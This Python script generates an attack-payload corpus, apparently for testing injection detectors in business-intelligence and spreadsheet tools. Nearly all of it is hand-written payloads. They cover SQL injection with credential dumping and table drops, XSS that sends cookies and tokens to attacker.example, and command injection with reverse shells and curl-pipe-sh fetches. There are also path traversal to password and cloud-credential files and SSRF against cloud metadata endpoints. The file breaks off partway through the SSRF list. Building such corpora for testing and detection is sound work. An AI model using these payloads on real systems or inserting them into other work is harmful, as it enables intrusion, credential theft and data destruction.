"""Attack corpus "bi": payloads hidden in the notations and fields of a
business-intelligence and spreadsheet help desk (dashboard filters, sort and
limit parameters, chart titles, ticket notes, export file names, Power Query M,
Sheets IMPORT* / IMAGE formulas, webhooks, CSV cells, dbt variables, LDAP
sharing lookups, XML report configs).

Each entry is (category, class, value). The class names the context the
vulnerable application puts the value into, then the technique, then an
optional "+encoding". Every literal was written by hand for this corpus; the
small templates below combine hand-written pools. Output: attacks.jsonl next
to this file.
"""
import json
import random
import urllib.parse
from pathlib import Path

SEED = 8202
PREFIX = "ha82"
TARGETS = {
    "sqli": 80, "xss": 78, "cmdi": 70, "traversal": 50, "ssrf": 50,
    "code": 78, "nosqli": 24, "crlf": 30, "ldap-xpath": 20,
}

# --------------------------------------------------------------------------
SQLI = [
    ("filter-union", "North' UNION SELECT username, password_hash FROM bi_users-- -"),
    ("filter-union", "EMEA' UNION ALL SELECT table_schema, table_name FROM information_schema.tables WHERE 'x'='x"),
    ("filter-boolean", "North' AND SUBSTRING((SELECT api_key FROM connections LIMIT 1),1,1)='s' AND '1'='1"),
    ("filter-tautology", "APAC' OR 1=1-- "),
    ("filter-time", "EMEA' AND (SELECT 1 FROM (SELECT SLEEP(6))a)-- -"),
    ("filter-time", "West'; SELECT pg_sleep(8)--"),
    ("filter-stacked", "Q3'; DROP TABLE dashboard_cache;--"),
    ("filter-error", "x' AND extractvalue(1, concat(0x7e, (SELECT user()), 0x7e))-- -"),
    ("filter-error", "North' AND 1=CAST((SELECT string_agg(usename||':'||passwd, ',') FROM pg_shadow) AS int)--"),
    ("sort-boolean", "amount, (CASE WHEN (SELECT usesuper FROM pg_user WHERE usename=current_user) THEN 1 ELSE 1/0 END)"),
    ("sort-time", "(SELECT 1 FROM pg_sleep(5))"),
    ("sort-boolean", "IF((SELECT COUNT(*) FROM mysql.user)>3, revenue, region)"),
    ("daterange-tautology", "2024-01-01' OR '1'='1"),
    ("daterange-union", "2024-03-31' UNION SELECT NULL, email, reset_token, NULL FROM accounts-- "),
    ("filter-stacked", r"North'; EXEC master..xp_cmdshell 'whoami > C:\inetpub\wwwroot\w.txt';--"),
    ("filter-time", "'; IF (SELECT COUNT(*) FROM sys.sql_logins WHERE name='sa')=1 WAITFOR DELAY '0:0:7'--"),
    ("filter-union", "' UNION SELECT banner, NULL FROM v$version--"),
    ("filter-time", "North' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('q',9)--"),
    ("filter-union", "' UNION SELECT name, sql FROM sqlite_master--"),
    ("limit-union", "10 UNION ALL SELECT column_name, data_type FROM information_schema.columns WHERE table_name='users'"),
    ("limit-stacked", "25; UPDATE bi_users SET role='admin' WHERE login='intern3'"),
    ("title-insert-subquery", "Revenue Q1', (SELECT password FROM bi_users WHERE login='admin'))-- "),
    ("note-update-setclause", "done', owner_role='admin' WHERE ticket_id > 0-- "),
    ("search-union", "%' UNION SELECT secret_name, secret_value FROM vault_entries-- "),
    ("search-boolean", "churn%' AND (SELECT COUNT(*) FROM api_tokens) > 0 AND '%'='"),
    ("filter-boolean+comment", "North'/**/AND/**/ASCII(SUBSTR((SELECT/**/current_user),1,1))>100/**/AND/**/'a'='a"),
    ("filter-union+case", "nOrTh' uNiOn sElEcT LoGiN, pAsSwOrD fRoM users-- -"),
    ("filter-union+urlenc", "North%27%20UNION%20SELECT%20login%2Cpassword%20FROM%20users--%20-"),
    ("filter-union+double-urlenc", "North%2527%2520UNION%2520SELECT%2520login%252Cpassword%2520FROM%2520users--"),
    ("filter-union+versioned-comment", "North' /*!50000UNION*/ /*!50000SELECT*/ user,authentication_string FROM mysql.user-- -"),
    ("filter-tautology+hex", "x' OR login=0x61646d696e-- "),
    ("filter-concat-subquery", "'||(SELECT version())||'"),
    ("filter-stacked-copyprogram", "'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.7/p | sh';--"),
    ("filter-oob-loadfile", r"' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.x.attacker.example\\a')), 2-- -"),
    ("filter-union-outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>', NULL INTO OUTFILE '/var/www/html/img/c.php'-- -"),
    ("filter-tautology-jsonop", "' OR attrs->>'role' = 'admin' OR '1'='2"),
    ("filter-time", "EU' AND SYSTEM$WAIT(10) IS NOT NULL-- "),
    ("filter-time", "North' AND sleep(5)=0 AND 'a'='a"),
    ("groupby-union", "region UNION SELECT secret, 1 FROM config_secrets--"),
    ("metric-fileread", "(SELECT pg_read_file('/etc/passwd'))"),
    ("namedrange-identifier-stacked", "Sales]; DROP TABLE [Audit];--"),
    ("identifier-backtick-subquery", "region` , (SELECT authentication_string FROM mysql.user LIMIT 1) AS `x"),
    ("lookmlparam-union", "revenue FROM orders UNION SELECT email, password_digest FROM users --"),
    ("cellimport-insert-subquery", "Müller GmbH','0'),((SELECT string_agg(token, ';') FROM api_tokens),'1')-- "),
    ("jsonfilter-tautology", "{\"region\": \"North' OR 'x'='x\"}"),
    ("urlparam-union", "?dashboard=12&region=North'+UNION+SELECT+NULL,login,password+FROM+users--+"),
    ("filter-error", "' AND updatexml(1, concat(0x3a, (SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 1)), 1)-- -"),
    ("filter-error", "1' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.databases WHERE database_id>4))--"),
    ("filter-error", "' AND 1=(SELECT UTL_INADDR.get_host_name((SELECT user FROM dual)) FROM dual)--"),
    ("filter-oob-xpdirtree", r"'; EXEC master..xp_dirtree '\\203.0.113.9\share';--"),
    ("filter-boolean", "North' AND (SELECT CASE WHEN (SUBSTR(user,1,1)='B') THEN 1 ELSE 1/0 END FROM dual)=1--"),
    ("filter-union", "-1' UNION SELECT 1, group_concat(login, 0x3a, password), 3 FROM users-- -"),
    ("filter-tautology", "anything' OR 'a' LIKE 'a"),
    ("filter-boolean", "North' AND 'a'=(SELECT CASE WHEN EXISTS(SELECT * FROM users WHERE login='admin' AND password LIKE 'a%') THEN 'a' ELSE 'b' END)-- "),
    ("sort-error", "(SELECT 1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(database(),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x))"),
    ("note-update-setclause", "Fixed.', is_admin = 1, note = 'ok"),
    ("title-insert-stacked", "Q3 chart'); INSERT INTO bi_users(login, password, role) VALUES ('svc_tmp', 'x', 'admin');--"),
    ("daterange-time", "2024-01-01' AND (SELECT 4217 FROM (SELECT(SLEEP(5)))q) AND '2024'='2024"),
    ("filter-union+newline", "North'\nUNION\nSELECT\nlogin,\npassword\nFROM\nusers\n-- "),
    ("filter-union+tab", "North'\tUNION\tALL\tSELECT\tlogin,secret\tFROM\tsvc_accounts--\t"),
    ("filter-boolean+parenthesis", "North'AND(SELECT(COUNT(*))FROM(users))>0AND'1'='1"),
    ("dbtvar-stacked", "EMEA'; DELETE FROM audit_log WHERE '1'='1"),
    ("dbtvar-union", "2024-01-01' UNION SELECT grantee_name, role FROM snowflake.account_usage.grants_to_users --"),
    ("mnative-union", "North' UNION SELECT name, CONVERT(varchar(max), password_hash, 1), NULL FROM sys.sql_logins--"),
    ("filter-stacked", "EMEA'; CREATE USER backup_svc WITH SUPERUSER PASSWORD 'FAKE-pass-0000';--"),
    ("sort-time", "IF(1=1, SLEEP(3), region)"),
    ("filter-boolean", "North' AND (SELECT 1 FROM users WHERE login='admin' AND LENGTH(password)>40)=1 AND 'q'='q"),
    ("title-insert-stacked", "Revenue FY24'); UPDATE dashboards SET owner_id = 1337 WHERE 1=1; --"),
    ("filter-union", "ZZ' UNION SELECT table_name, NULL FROM all_tables WHERE owner='FINANCE'--"),
    ("groupby-boolean", "region HAVING 1=1 AND (SELECT COUNT(*) FROM bi_users WHERE role='admin')>0"),
    ("plain-union", "' UNION SELECT null, null, current_user--"),
    ("plain-tautology", "admin' or 1=1#"),
    ("plain-time", "1) AND SLEEP(4)#"),
    ("plain-stacked", "1; SHUTDOWN--"),
    ("plain-union", "1 AND 1=2 UNION SELECT 1,2,@@version"),
    ('plain-error', "' AND 1=CONVERT(int,@@version)--"),
    ('plain-union', "') UNION SELECT username, password FROM users--"),
    ('plain-time', "'; WAITFOR DELAY '0:0:5'--"),
]
SQ_PREFIX = ["Nord", "Île-de-France", "2024-Q2", "Retail & Online", "Kanto", "DACH", "4711"]
SQ_TAILS = [
    ("union", "' UNION SELECT login, password_hash FROM bi_users-- -"),
    ("time", "' AND (SELECT 1 FROM (SELECT SLEEP(7))z)-- -"),
    ("time", "'; SELECT pg_sleep(6)--"),
    ("boolean", "' AND (SELECT COUNT(*) FROM api_tokens)>0 AND 'k'='k"),
    ("stacked", "'; DELETE FROM dashboard_shares;--"),
    ("tautology", "' OR 'z'='z"),
]


def tpl_sqli(rng):
    p = rng.choice(SQ_PREFIX)
    tag, tail = rng.choice(SQ_TAILS)
    v = p + tail
    if rng.random() < 0.35:
        return f"filter-{tag}+urlenc", urllib.parse.quote(v, safe="")
    return f"filter-{tag}", v


# --------------------------------------------------------------------------
XSS = [
    ("title-script", "Revenue by Region <script>fetch('https://attacker.example/c?k='+document.cookie)</script>"),
    ("title-img-onerror", "Q3 Pipeline <img src=x onerror=\"new Image().src='//attacker.example/l?'+localStorage.getItem('bi_token')\">"),
    ("title-svg-onload", "<svg onload=alert(document.domain)>Umsatz 2024"),
    ("note-iframe-srcdoc", "See attached chart <iframe srcdoc=\"<script>parent.location='https://attacker.example/p?'+parent.document.cookie</script>\"></iframe>"),
    ("href-javascript", "=HYPERLINK(\"javascript:fetch('//attacker.example/?'+document.cookie)\", \"Open report\")"),
    ("href-javascript+entity", "=HYPERLINK(\"jav&#x61;script:alert(1)\", \"Details\")"),
    ("href-javascript+tab", "java\tscript:alert(document.cookie)"),
    ("href-javascript+newline", "jav\nascript:alert(document.domain)"),
    ("attr-breakout-event", "Margin %\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("attr-breakout-autofocus", "North' autofocus onfocus='fetch(`//attacker.example/${document.cookie}`)"),
    ("jsstring-breakout", "';fetch('https://attacker.example/t?c='+document.cookie);//"),
    ("jsstring-scriptclose", "</script><script>alert(origin)</script>"),
    ("jstemplate-interpolation", "${alert(document.domain)}"),
    ("markdown-link-javascript", "[Open the Q3 dashboard](javascript:alert(document.cookie))"),
    ("markdown-image-attr", "![chart](x\" onerror=\"alert(1))"),
    ("lookmlhtml-onclick", "<a href=\"#\" onclick=\"fetch('/api/4.0/user').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))\">Drill</a>"),
    ("tooltip-details-ontoggle", "<details open ontoggle=alert(document.cookie)>Tooltip"),
    ("note-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("note-object-data+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>"),
    ("note-form-injection", "<form action=\"https://attacker.example/harvest\"><input name=password placeholder=\"Session expired – re-enter password\"><button>Login</button></form>"),
    ("title-input-autofocus", "<input autofocus onfocus=alert(document.cookie)>"),
    ("title-video-source", "<video><source onerror=\"alert(1)\"></video>"),
    ("note-style-animation", "<style>@keyframes k{}</style><div style=\"animation-name:k\" onanimationstart=\"alert(document.domain)\">KPI</div>"),
    ("note-math-href", "<math><mtext><a href=\"javascript:alert(1)\">click</a></mtext></math>"),
    ("svgupload-script", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"200\"><text x=\"10\" y=\"20\">Sales</text><script>alert(document.domain)</script></svg>"),
    ("svgupload-foreignobject", "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"300\" height=\"100\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" onerror=\"alert(document.cookie)\"/></body></foreignObject></svg>"),
    ("filterecho-script", "North<script>alert(1)</script>"),
    ("filterecho-img", "<img src=1 onerror=alert(document.cookie)>"),
    ("title-script+urlenc", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("title-img+double-urlenc", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("note-script+case", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>"),
    ("note-img+entity-in-attr", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">"),
    ("jsstring-innerhtml+unicode", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("title-csti-angular", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("title-csti-vue", "{{_c.constructor('alert(1)')()}}"),
    ("embed-iframe-javascript", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("note-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("chartlabel-svg-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Revenue ▲</text></a></svg>"),
    ("style-breakout", "#c00;}</style><script>alert(1)</script>"),
    ("note-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("title-textarea-breakout", "</textarea><script>alert(document.cookie)</script>"),
    ("title-title-breakout", "</title><svg/onload=alert(1)>"),
    ("note-marquee-onstart", "<marquee onstart=alert(document.domain)>Q3 closed</marquee>"),
    ("note-href+entity", "<a href=\"&#106;avascript:alert(1)\">KPI definitions</a>"),
    ("note-href+colon-entity", "<a href=\"javascript&colon;alert(1)\">Drill down</a>"),
    ("attr-breakout-nospace", "\"onpointerenter=\"alert(1)"),
    ("tooltip-attr-overlay", "x\" style=\"position:fixed;inset:0\" onmouseover=\"alert(document.cookie)"),
    ("urlparam-reflect+urlenc", "?title=%3Csvg%20onload%3Dalert(document.domain)%3E&range=A1:D20"),
    ("note-script-src", "<script src=\"https://attacker.example/bi.js\"></script>"),
    ("note-script-src-protocol-relative", "<script src=//attacker.example/k.js></script>"),
    ("csvpreview-img", "\"Müller GmbH\",\"<img src=x onerror=alert(1)>\",\"1.200\""),
    ("namedrange-img", "Rates<img src=x onerror=alert(document.domain)>"),
    ("daxname-svg", "Total Sales <svg/onload=fetch(`//attacker.example/`+document.cookie)> = SUM(Sales[Amount])"),
    ("lookmllink-javascript", "link: { label: \"CRM\" url: \"javascript:alert(document.cookie)\" }"),
    ("errorecho-iframe", "#REF! <iframe src=//attacker.example/phish width=800 height=600>"),
    ("note-formaction", "<form><button formaction=\"javascript:alert(document.cookie)\">Refresh data</button></form>"),
    ("note-img+fromcharcode", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("note-img+atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("title-img-backtick", "<img src=x onerror=alert`1`>"),
    ("jsstring-breakout-doublequote", "\";document.location=\"https://attacker.example/?c=\"+document.cookie;\""),
    ("note-script+html-entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("title-img+js-unicode-escape", "<img src=x onerror=\\u0061lert(1)>"),
    ("chartlabel-svg-onload", "Umsatz je Region <svg/onload=alert(document.domain)> (Tsd. €)"),
    ("note-img-srcerror-multiline", "Hallo Team,\nder Export ist fertig:\n<img src=\"https://cdn.example.com/missing.png\" onerror=\"this.src='https://attacker.example/?'+document.cookie\">"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img", "<img src=x onerror=prompt(1)>"),
    ("plain-svg", "<svg/onload=confirm(1)>"),
    ("plain-body", "<body onpageshow=alert(1)>"),
    ('plain-iframe', '<iframe src=javascript:alert(1)>'),
    ('plain-input', '<input onfocus=alert(1) autofocus>'),
    ('plain-a-href', '<a href=javascript:alert(1)>x</a>'),
]
XS_LABELS = ["Revenue vs. Target", "売上推移", "Churn by Cohort", "Ventes par pays", "Pipeline FY25", "Open tickets"]
XS_VECTORS = [
    ("img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("svg-onload", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("script", "<script>alert(document.domain)</script>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("iframe-javascript", "<iframe src=javascript:alert(document.domain)>"),
]


def tpl_xss(rng):
    label = rng.choice(XS_LABELS)
    tag, vec = rng.choice(XS_VECTORS)
    ctx = rng.choice(["title", "note", "chartlabel"])
    if rng.random() < 0.3:
        return f"{ctx}-{tag}+urlenc", urllib.parse.quote(f"{label} {vec}", safe=" ")
    return f"{ctx}-{tag}", f"{label} {vec}"


# --------------------------------------------------------------------------
CMDI = [
    ("filename-semicolon", "Q3_report; curl -s https://attacker.example/i.sh | sh"),
    ("filename-subshell", "sales_$(id).csv"),
    ("filename-backtick", "umsatz_`uname -a`.xlsx"),
    ("filename-and", "forecast.xlsx && wget -qO- http://203.0.113.14/x | bash"),
    ("filename-pipe", "kpi.csv | nc 203.0.113.14 4444 -e /bin/sh"),
    ("filename-or", "missing.xlsx || cat /etc/shadow > /var/www/bi/static/s.txt"),
    ("filename-newline", "pipeline.csv\nid > /tmp/o"),
    ("filename-doublequote-breakout", "report.xlsx\"; rm -rf /srv/bi/cache; echo \""),
    ("filename-singlequote-breakout", "board pack'; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.14\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'; echo '"),
    ("dbtselect-semicolon", "fct_orders; env | curl -X POST --data-binary @- https://attacker.example/env"),
    ("dbtselect-subshell", "+fct_orders $(base64 -w0 ~/.dbt/profiles.yml | curl -d @- https://attacker.example/p)"),
    ("gitclone-argument", "--upload-pack=touch /tmp/pwned"),
    ("gitclone-ext-transport", "ext::sh -c touch% /tmp/pwned_ext"),
    ("curlurl-argument", "-o /var/www/bi/static/shell.php https://attacker.example/s.txt"),
    ("tararchive-argument", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("ziparchive-argument", "export.zip -T --unzip-command='sh -c id>/tmp/z'"),
    ("findpattern-exec", "*.csv -exec sh -c 'id>/tmp/f' ;"),
    ("sheetname-subshell", "Sheet1'$(curl attacker.example/s|sh)'"),
    ("pythonarg-semicolon", "2024-Q1; python3 -c 'import os;os.system(\"id\")'"),
    ("sheetname-ifs", "Summary;cat${IFS}/etc/passwd"),
    ("filename-brace-expansion", "x;{curl,-s,https://attacker.example/b.sh}|bash"),
    ("filename-var-concat", "kpi;c=ca;t=t;$c$t /etc/hosts"),
    ("filename-quote-insertion", "rep;w'h'o'am'i"),
    ("filename-backslash-insertion", r"rep;w\ho\am\i"),
    ("filename-printf-hex", r"a;$(printf '\x69\x64')"),
    ("filename-base64-decode", "x;echo aWQ+L3RtcC9iYQ== | base64 -d | sh"),
    ("filename-windows-ampersand", "forecast.xlsx & powershell -nop -c \"iwr https://attacker.example/a.ps1 | iex\""),
    ("filename-windows-pipe", r"report.xlsx | type C:\Windows\win.ini"),
    ("filename-windows-caret", "x & w^h^o^a^m^i"),
    ("filename-windows-comspec", r"x & %COMSPEC% /c whoami > \\203.0.113.5\s\o.txt"),
    ("filename-powershell-subexpression", "Q1 $(Invoke-WebRequest -Uri https://attacker.example/p -Method Post -Body (Get-ChildItem env: | Out-String))"),
    ("filename-authorizedkeys", "x; echo 'ssh-ed25519 AAAAFAKEKEYFORTESTS attacker' >> ~/.ssh/authorized_keys"),
    ("schedule-newline", "0 6 * * 1\n* * * * * root curl -s https://attacker.example/c | sh"),
    ("mailto-sendmail-argument", "analyst@company.example -X/var/www/bi/static/log.php -OQueueDirectory=/tmp"),
    ("sqlitecli-dotshell", ".shell id"),
    ("psqlscript-metacommand", r"\! id"),
    ("filename-newline+urlenc", "report.csv%0aid%0a"),
    ("filename-semicolon+urlenc", "kpi.csv%3Bcurl%20attacker.example%2Fx%7Csh"),
    ("filename-subshell+double-urlenc", "sales_%2524%2528id%2529.csv"),
    ("dbhost-semicolon", "10.0.0.5; cat /etc/passwd"),
    ("dbhost-backtick-time", "warehouse.internal`sleep 10`"),
    ("sshtunnel-argument", "-oProxyCommand=sh -c 'id>/tmp/p' x"),
    ("dbport-dns-exfil", "5432;nslookup $(whoami).attacker.example"),
    ("filename-process-substitution", "x <(curl -s attacker.example/p)"),
    ("filename-glob-obfuscation", "x;/???/??t /???/p??s??"),
    ("filename-sleep", "kpi.csv;sleep 15;"),
    ("filename-dns-exfil", "board.pdf;host $(hostname).attacker.example"),
    ("note-reverse-shell", "\"; nohup bash -i >& /dev/tcp/198.51.100.23/9001 0>&1 &"),
    ("filename-tee", "x;id|tee /srv/bi/public/id.txt"),
    ("exportformat-semicolon", "pdf; curl -F f=@/etc/passwd https://attacker.example/u"),
    ("locale-subshell", "de_DE.UTF-8$(id)"),
    ("chartfont-backtick", "DejaVu Sans`curl -s 198.51.100.23/f|sh`"),
    ("filename-semicolon-unicode", "Umsatzbericht_März; wget -q -O /tmp/.u https://attacker.example/u && sh /tmp/.u"),
    ("sheetname-newline-multi", "Übersicht\ncurl -s https://attacker.example/m -o /tmp/m\nchmod +x /tmp/m\n/tmp/m"),
    ("plain-semicolon", ";id"),
    ("plain-pipe", "| whoami"),
    ("plain-subshell", "$(uname -a)"),
    ("plain-backtick", "`id`"),
    ("plain-and", "&& cat /etc/passwd"),
    ("plain-newline", "\nls -la /"),
    ('plain-sleep', '; sleep 10'),
    ('plain-or', '|| id'),
]
CM_FILES = ["Sales_2024.xlsx", "kpi-weekly.csv", "Board Pack Q2.pdf", "Umsatz_Nord.xlsx", "churn_cohorts.parquet"]
CM_SEPS = [("semicolon", "; "), ("and", " && "), ("pipe", " | "), ("newline", "\n"), ("or", " || ")]
CM_CMDS = ["id", "cat /etc/passwd", "curl -s https://attacker.example/x | sh", "sleep 12", "uname -a > /tmp/u"]


def tpl_cmdi(rng):
    f = rng.choice(CM_FILES)
    tag, sep = rng.choice(CM_SEPS)
    c = rng.choice(CM_CMDS)
    if rng.random() < 0.25:
        stem, ext = f.rsplit(".", 1)
        return "filename-subshell", f"{stem}$({c}).{ext}"
    return f"filename-{tag}", f"{f}{sep}{c}"


# --------------------------------------------------------------------------
TRAVERSAL = [
    ("download-dotdot", "../../../../etc/passwd"),
    ("download-dotdot", "exports/../../../../../root/.ssh/id_rsa"),
    ("template-dotdot", "../../../../../srv/bi/config/database.yml"),
    ("template-dotdot-windows", r"..\..\..\..\Windows\win.ini"),
    ("mpath-absolute", r'= Csv.Document(File.Contents("C:\ProgramData\Microsoft\On-premises data gateway\Gateway.Config.json"))'),
    ("mpath-dotdot", r'= Text.FromBinary(File.Contents("D:\Reports\..\..\inetpub\wwwroot\web.config"))'),
    ("download-absolute-proc", "/proc/self/environ"),
    ("download-absolute", "/etc/shadow"),
    ("download-dotdot+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("download-dotdot+double-urlenc", "..%252F..%252F..%252Fetc%252Fhosts"),
    ("download-dotdot+overlong-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("download-dotdot+overlong-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("download-dotdot+iis-unicode", "..%u002f..%u002f..%u002fwindows%u002fwin.ini"),
    ("download-nested-strip", "....//....//....//etc/passwd"),
    ("download-nested-strip-dots", "..././..././..././etc/passwd"),
    ("download-dotdot+nullbyte", "../../../../etc/passwd%00.xlsx"),
    ("zipslip-entry", "../../../../var/www/bi/static/favicon.svg"),
    ("zipslip-entry-windows", r"..\..\..\inetpub\wwwroot\aspnet_client\s.aspx"),
    ("download-mixed-slash", r"..\/..\/..\/etc/passwd"),
    ("download-semicolon-pathparam", "..;/..;/..;/WEB-INF/web.xml"),
    ("static-webinf+urlenc", "/static/..%2f..%2fWEB-INF/classes/application.properties"),
    ("dbtproject-dotdot", "../../../../home/dbt/.dbt/profiles.yml"),
    ("locale-dotdot-proc", "../../../../../../proc/self/cmdline"),
    ("logo-dotdot-log", "../../../../../../var/log/nginx/access.log"),
    ("theme-dotdot-env", "../../../.env"),
    ("download-absolute-windows", r"C:\inetpub\wwwroot\web.config"),
    ("download-dotdot-aws", "../../../../root/.aws/credentials"),
    ("download-dotdot-k8s", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("urlparam-dotdot", "?export=../../../../etc/passwd&format=csv"),
    ("mpath-dotdot-credentials", r'= Csv.Document(File.Contents("..\..\..\..\Users\svc_gateway\AppData\Roaming\Microsoft\Credentials\cred.bin"))'),
    ("sheetimage-dotdot", '=IMAGE("../../../../etc/passwd")'),
    ("download-backslash+urlenc", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("download-dotdot+fullwidth", "．．／．．／．．／etc／passwd"),
    ("attachment-absolute", "/var/lib/postgresql/data/pg_hba.conf"),
    ("attachment-dotdot", "attachments/2024/../../../../../etc/ssh/sshd_config"),
    ("download-dotdot-trailing-dot", "../../../../etc/passwd/."),
    ("dbtdocs-dotdot", "target/../../../../../etc/group"),
    ("lookmlinclude-dotdot", 'include: "../../../../../../etc/passwd"'),
    ("template-dotdot-jinja", "reports/../../../../app/superset_config.py"),
    ("download-absolute-file-windows", "C:/Windows/System32/config/SAM"),
    ("plain-dotdot", "../../../../../../etc/passwd"),
    ("plain-windows", r"..\..\..\..\..\boot.ini"),
    ("plain-absolute", "/etc/hosts"),
    ('plain-dotdot+urlenc', '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd'),
    ('plain-absolute', '/proc/version'),
]
TR_TARGETS = ["etc/passwd", "etc/hostname", "root/.bash_history", "srv/bi/.env", "proc/self/status", "var/lib/bi/secrets.json"]
TR_STYLES = [("dotdot", "../"), ("dotdot+urlenc", "..%2f"), ("dotdot+double-urlenc", "..%252f"), ("nested-strip", "....//")]


def tpl_traversal(rng):
    t = rng.choice(TR_TARGETS)
    tag, step = rng.choice(TR_STYLES)
    depth = rng.randint(3, 8)
    ctx = rng.choice(["download", "template", "attachment"])
    tgt = t.replace("/", "%2f") if "urlenc" in tag else t
    return f"{ctx}-{tag}", step * depth + tgt


# --------------------------------------------------------------------------
SSRF = [
    ("importdata-metadata-aws", '=IMPORTDATA("http://169.254.169.254/latest/meta-data/iam/security-credentials/")'),
    ("webcontents-metadata-gcp", '= Json.Document(Web.Contents("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", [Headers=[#"Metadata-Flavor"="Google"]]))'),
    ("webcontents-metadata-azure", '= Web.Contents("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", [Headers=[Metadata="true"]])'),
    ("webhook-loopback", "http://127.0.0.1:8080/admin/users?role=admin"),
    ("webhook-localhost", "http://localhost:9200/_cat/indices?v"),
    ("webhook-metadata-ecs", "http://169.254.170.2/v2/credentials/"),
    ("datasource-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/bi/secrets"),
    ("image-ip-decimal", '=IMAGE("http://2852039166/latest/meta-data/")'),
    ("image-ip-hex", '=IMAGE("http://0xa9fea9fe/latest/user-data")'),
    ("webhook-ip-octal", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("webhook-loopback-short", "http://127.1:6379/"),
    ("webhook-zero-address", "http://0.0.0.0:5601/app/kibana"),
    ("webhook-ipv6-loopback", "http://[::1]:8086/query?q=SHOW+DATABASES"),
    ("webhook-ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webhook-ipv6-mapped-dotted", "http://[0:0:0:0:0:ffff:127.0.0.1]:8500/v1/kv/?recurse"),
    ("webhook-userinfo-confusion", "https://reports.company.example@169.254.169.254/latest/meta-data/"),
    ("webhook-fragment-confusion", "http://127.0.0.1:2375/containers/json#@reports.company.example"),
    ("webhook-backslash-confusion", "http://reports.company.example\\@127.0.0.1:8080/"),
    ("webhook-open-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("webhook-dns-rebind", "http://meta.rebind.attacker.example/latest/meta-data/"),
    ("webhook-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20attacker.example/c%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("webhook-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("importdata-file-scheme", "file:///etc/passwd"),
    ("importdata-file-windows", '=IMPORTDATA("file:///C:/Windows/win.ini")'),
    ("logo-unc-smb", r"\\198.51.100.9\bi\logo.png"),
    ("mpath-unc-smb", r'= Excel.Workbook(File.Contents("\\198.51.100.9\share\q3.xlsx"))'),
    ("datasource-jar-scheme", "jar:http://attacker.example/x.zip!/a.properties"),
    ("webhook-internal-actuator", "http://10.20.0.15:8080/actuator/env"),
    ("webhook-internal-router", "http://192.168.1.1/cgi-bin/luci"),
    ("webhook-metadata-alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("webcontents-metadata-oracle", '= Web.Contents("http://169.254.169.254/opc/v2/instance/", [Headers=[Authorization="Bearer Oracle"]])'),
    ("importrange-internal", '=IMPORTRANGE("http://172.17.0.1:8000/api/v1/database/", "A1")'),
    ("pdfrender-localhost", "http://localhost:8088/api/v1/security/csrf_token/"),
    ("webhook-metadata+urlenc", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("webhook-localhost+case", "HtTp://LocalHost:8983/solr/admin/cores?action=STATUS"),
    ("webhook-ip-mixed-hex", "http://0x7f.0.0.1:8080/"),
    ("webhook-loopback+unicode-enclosed", "http://①②⑦.⓪.⓪.①/"),
    ("webhook-localhost-trailing-dot", "http://localhost.:8080/manage"),
